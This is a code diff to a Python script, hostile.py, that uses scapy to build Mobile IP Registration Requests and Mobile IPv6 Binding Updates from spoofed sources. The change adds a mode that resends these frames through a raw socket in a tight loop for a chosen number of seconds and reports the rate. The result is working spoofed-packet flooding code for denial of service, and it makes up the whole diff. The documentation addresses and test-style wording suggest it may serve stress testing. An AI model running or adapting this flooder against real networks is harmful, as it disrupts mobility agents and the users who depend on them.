@@ -11,6 +11,8 @@
         Registration Requests from spoofed sources of src-net, for random
         home addresses of it, with a random authenticator (each draws a
         denial, 131)
+        With --seconds S: the --count frames over and over for S seconds
+        through a raw socket, as fast as it goes (prints the rate).
     hostile.py mh-flood --iface eth0 --dst 2001:db8:1::1 --count 1100 \\
         --src-net 2001:db8:1::/64
         Binding Updates from spoofed sources of an IPv6 prefix (each draws
@@ -29,8 +31,10 @@ import ipaddress
 import json
 import os
 import random
+import socket
 import struct
 import sys
+import time
 
 from scapy.all import (ARP, Ether, IP, IPv6, UDP, Raw, conf, sendp,
                        get_if_hwaddr)
@@ -81,8 +85,35 @@ def rrq_flood(a):
         frames.append(Ether(src=mac, dst=a.dst_mac) /
                       IP(src=src, dst=a.dst) /
                       UDP(sport=434, dport=434) / Raw(rrq + ext))
-    sendp(frames, iface=a.iface, inter=(1.0 / a.rate) if a.rate else 0)
-    return {"sent": len(frames)}
+    return send_frames(a, frames)
+
+
+def send_frames(a, frames):
+    """The frames once through scapy, or with --seconds in a loop for that
+    long through a raw socket, as fast as it goes (or at --rate)."""
+    if not a.seconds:
+        sendp(frames, iface=a.iface,
+              inter=(1.0 / a.rate) if a.rate else 0)
+        return {"sent": len(frames)}
+    raw = [bytes(f) for f in frames]
+    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+    s.bind((a.iface, 0))
+    send, n = s.send, len(raw)
+    sent, t0 = 0, time.monotonic()
+    end, gap = t0 + a.seconds, (1.0 / a.rate) if a.rate else 0.0
+    while time.monotonic() < end:
+        for _ in range(256 if gap == 0 else 1):
+            try:
+                send(raw[sent % n])
+                sent += 1
+            except BlockingIOError:
+                pass
+        if gap:
+            time.sleep(max(0.0, t0 + sent * gap - time.monotonic()))
+    secs = time.monotonic() - t0
+    s.close()
+    return {"sent": sent, "seconds": round(secs, 3),
+            "rate": round(sent / secs, 1)}
 
 
 def mh_flood(a):
@@ -108,8 +139,7 @@ def mh_flood(a):
             s = (s & 0xffff) + (s >> 16)
         struct.pack_into("!H", raw, 44, ~s & 0xffff)
         frames.append(Ether(src=mac, dst=a.dst_mac) / IPv6(bytes(raw)))
-    sendp(frames, iface=a.iface, inter=(1.0 / a.rate) if a.rate else 0)
-    return {"sent": len(frames)}
+    return send_frames(a, frames)
 
 
 def udp(a):
@@ -149,6 +179,9 @@ def main():
         c.add_argument("--src-net", required=True)
         c.add_argument("--avoid", nargs="*")
         c.add_argument("--rate", type=float, default=0.0)
+        c.add_argument("--seconds", type=float, default=0.0,
+                       help="send the --count frames over and over for "
+                       "this long through a raw socket")
     c = sub.add_parser("udp")
     c.add_argument("--iface", required=True)
     c.add_argument("--src", required=True)
